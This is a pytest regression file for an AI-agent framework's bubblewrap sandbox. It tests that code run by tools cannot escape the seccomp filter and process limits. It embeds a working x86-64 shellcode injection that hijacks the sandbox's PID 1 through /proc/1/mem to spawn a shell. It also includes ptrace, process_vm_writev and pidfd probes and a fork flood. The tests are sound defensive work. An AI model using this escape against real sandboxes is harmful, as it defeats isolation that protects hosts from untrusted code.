"""bubblewrap's own init (PID 1 of every sandbox, bwrap's reaper) attacked from inside.

The runner installs its seccomp filter and rlimits on itself only; bwrap's init, PID 1 in the
sandbox's PID namespace, runs without either, as the same uid, dumpable. Nothing in the
filter refuses ``open("/proc/1/mem", "r+b")`` (a write through ``/proc/<pid>/mem`` is a ptrace
access the kernel checks by uid and dumpability, not a ptrace system call), so the code can
overwrite the init's code at the PC where it waits in ``wait4`` and have it run anything,
outside the filter and the limits, once its wait returns. Each test checks one promise of
docs/SANDBOX.md that this breaks; each passes once the code can no longer write the init's
memory: ``/proc`` is mounted read-only (``--remount-ro /proc``, sandbox.bwrap), and the
other routes into another process's memory (``ptrace``, ``process_vm_writev``, a pidfd) are
refused by the filter (the last test). Each was seen failing with ``/proc`` writable.
"""

from __future__ import annotations

import contextlib
import os
import platform
import signal
import socket
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from agentq.core.tools import ToolContext, default_registry, idempotency_key_for
from agentq.sandbox.bwrap import BwrapSandbox
from agentq.sandbox.runner import SYSCALLS, machine
from agentq.sandbox.workspace import WorkspaceSandbox

pytestmark = [
    pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="the sandbox needs bubblewrap"),
    pytest.mark.skipif(platform.machine() != "x86_64", reason="the injected code is x86-64"),
]

# Python run in the sandbox: overwrite bwrap's init at the PC its wait4 returns to with code that
# (optionally) clears its parent-death signal, then execve("/bin/sh", ["/bin/sh", "-c", CMD]).
HIJACK = textwrap.dedent(
    r"""
    import struct, sys

    def hijack(cmd: bytes, keep_alive: bool = False) -> None:
        pc = int(open("/proc/1/syscall").read().split()[-1], 16)
        code = bytearray()
        if keep_alive:  # prctl(PR_SET_PDEATHSIG, 0)
            code += b"\xbf\x01\x00\x00\x00\x31\xf6\xb8\x9d\x00\x00\x00\x0f\x05"
        lea = len(code)
        code += b"\x48\x8d\x3d\0\0\0\0\x48\x8d\x35\0\0\0\0\x48\x8d\x15\0\0\0\0"  # lea rdi/rsi/rdx,[rip+x]
        code += b"\x31\xc9\x51\x52\x56\x57\x48\x89\xe6\x31\xd2"  # argv on the stack, envp NULL
        code += b"\xb8\x3b\x00\x00\x00\x0f\x05"  # execve
        code += b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"  # exit(0)
        at = len(code)
        for i, s in enumerate((b"/bin/sh\0", b"-c\0", cmd + b"\0")):
            field = lea + 3 + 7 * i
            code[field : field + 4] = struct.pack("<i", at - (field + 4))
            at += len(s)
        code += b"/bin/sh\0-c\0" + cmd + b"\0"
        with open("/proc/1/mem", "r+b", buffering=0) as mem:
            mem.seek(pc)
            mem.write(bytes(code))

    """
)


def test_python_exec_code_cannot_start_a_process_through_bwraps_init() -> None:
    """docs/SANDBOX.md: python_exec's code cannot start a process (seccomp), by any route."""
    code = HIJACK + "hijack(b'echo ESCAPED-started-a-process-$$; grep Seccomp: /proc/self/status')\n"
    registry = default_registry(sandbox=BwrapSandbox())
    ctx = ToolContext("task-init", "toolu_1", idempotency_key_for("task-init", "toolu_1"))
    out = registry.execute("python_exec", {"code": code, "timeout_seconds": 10}, ctx, ["python_exec"])
    stdout = out.content.split("--- stderr ---")[0]
    assert "ESCAPED" not in stdout, out.content


def test_every_process_of_a_workspace_shell_is_held_to_its_filter_and_process_limit(tmp_path: Path) -> None:
    """The shell's filter (no socket family but Unix/IPv4/IPv6) and RLIMIT_NPROC (256) hold for
    everything in the sandbox, bwrap's init included."""
    (tmp_path / "x.py").write_text(HIJACK + "hijack(sys.argv[1].encode())\n")
    (tmp_path / "inner.sh").write_text(
        "python3 -c 'import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); print(\"ESCAPED-netlink\")'\n"
        "for i in $(seq 300); do sleep 3 & done; sleep 0.5\n"
        'n=$(ls /proc | grep -c "^[0-9]"); [ "$n" -gt 256 ] && echo "ESCAPED-nproc $n"\n'
    )
    result = WorkspaceSandbox().shell(tmp_path, "python3 x.py 'sh /workspace/inner.sh'", 20)
    assert "ESCAPED" not in result.stdout, result.stdout


DRIVER = """
import sys
from pathlib import Path
from agentq.sandbox.workspace import WorkspaceSandbox
WorkspaceSandbox().shell(Path(sys.argv[1]), sys.argv[2], 60)
"""


def test_no_process_of_a_call_outlives_a_worker_killed_mid_call(tmp_path: Path) -> None:
    """bwrap.py: the sandbox "dies with the worker"; docs/SANDBOX.md: processes do not outlive
    the tool call. A worker SIGKILLed mid-call must take every process of the call with it."""
    marker = f"{os.getpid()}.{time.monotonic_ns() % 10**6}"
    (tmp_path / "x.py").write_text(HIJACK + "hijack(sys.argv[1].encode(), keep_alive=True)\n")
    inner = f"sleep {marker}0; echo ESCAPED > /workspace/after-the-worker-died"
    worker = subprocess.Popen(
        [sys.executable, "-c", DRIVER, str(tmp_path), f"python3 x.py '{inner}'"],
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
    )
    survivors: list[int] = []
    try:
        time.sleep(4)  # the call has started, the shell has run x.py and exited
        worker.send_signal(signal.SIGKILL)
        worker.wait()
        time.sleep(1)
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                try:
                    cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
                except OSError:
                    continue
                if f"sleep {marker}0".encode() in cmdline:
                    survivors.append(int(entry))
        assert not survivors, f"processes of the call still running after the worker died: {survivors}"
    finally:
        for pid in survivors:  # only the processes this test's call started
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)


# Every way the code could write into another process of its sandbox (bwrap's init; the shell's
# proxy forwarder, its parent when the task allows hosts: both run without the filter), each tried
# against each; and, for the forwarder (not dumpable), reading its memory and environment. Prints
# one line per route and process, "refused <errno name>" or "ALLOWED".
ROUTES = textwrap.dedent(
    r"""
    import ctypes, errno, os
    libc = ctypes.CDLL(None, use_errno=True)
    NR = {numbers!r}
    syscall = libc.syscall
    syscall.restype = ctypes.c_long

    class IOVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    def report(route, ok, err=0):
        print(route, "ALLOWED" if ok else "refused " + errno.errorcode.get(err, str(err)))

    def try_open(path, flags):
        try:
            os.close(os.open(path, flags))
            report(f"open({{flags}}) {{path}}", True)
        except OSError as exc:
            report(f"open({{flags}}) {{path}}", False, exc.errno)

    for pid in sorted({{1, os.getppid()}}):
        for name in ("mem", "oom_score_adj", "comm", "attr/current"):
            try_open(f"/proc/{{pid}}/{{name}}", os.O_WRONLY)
        if pid != 1:  # the forwarder is not dumpable: not even read
            for name in ("mem", "environ"):
                try_open(f"/proc/{{pid}}/{{name}}", os.O_RDONLY)
        try:  # the stack, mapped and writable
            at = int(open(f"/proc/{{pid}}/syscall").read().split()[-2], 16) - 4096
        except (OSError, ValueError, IndexError):
            at = 0x10000
        byte = ctypes.create_string_buffer(b"\\0")
        local, remote = IOVec(ctypes.addressof(byte), 1), IOVec(at, 1)
        for name in ("process_vm_writev", "process_vm_readv"):
            r = syscall(NR[name], pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            report(f"{{name}} {{pid}}", r >= 0, ctypes.get_errno())
        for request, name in ((0x4206, "ptrace-seize"), (16, "ptrace-attach")):
            r = syscall(NR["ptrace"], request, pid, 0, 0)
            report(f"{{name}} {{pid}}", r >= 0, ctypes.get_errno())
        r = syscall(NR["pidfd_open"], pid, 0)
        report(f"pidfd_open {{pid}}", r >= 0, ctypes.get_errno())
        r = syscall(NR["pidfd_getfd"], r if r >= 0 else 0, 1, 0)
        report(f"pidfd_getfd {{pid}}", r >= 0, ctypes.get_errno())
    """
)


def _routes() -> str:
    names = ("process_vm_writev", "process_vm_readv", "ptrace", "pidfd_open", "pidfd_getfd")
    return ROUTES.format(numbers={name: SYSCALLS[machine()][name] for name in names})


def _lines(stdout: str) -> list[str]:
    return [line for line in stdout.strip().splitlines() if line]


def test_no_call_can_write_into_another_process_of_its_sandbox_by_any_route(tmp_path: Path) -> None:
    """python_exec's code, a workspace shell's processes and those of a shell whose task allows
    hosts try every route into the memory and /proc files of bwrap's init and of the proxy
    forwarder: each is refused (read-only /proc, the filter, the forwarder not dumpable)."""
    registry = default_registry(sandbox=BwrapSandbox())
    ctx = ToolContext("task-init", "toolu_2", idempotency_key_for("task-init", "toolu_2"))
    out = registry.execute("python_exec", {"code": _routes(), "timeout_seconds": 10}, ctx, ["python_exec"])
    from_python = _lines(out.content.split("--- stdout ---")[1].split("--- stderr ---")[0])
    (tmp_path / "routes.py").write_text(_routes())
    shell = WorkspaceSandbox().shell(tmp_path, "exec python3 routes.py", 20)
    proxy = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)  # the egress proxy's socket, never reached
    proxy.bind(str(tmp_path / "egress.sock"))
    proxy.listen(1)
    try:
        networked = WorkspaceSandbox().shell(
            tmp_path, "exec python3 routes.py", 20, egress=str(tmp_path / "egress.sock")
        )
    finally:
        proxy.close()
    for lines, count, seen in (
        (from_python, 10, out.content),
        (_lines(shell.stdout), 10, shell),
        (_lines(networked.stdout), 22, networked),
    ):
        assert len(lines) == count, seen
        assert all(" refused E" in line for line in lines), lines
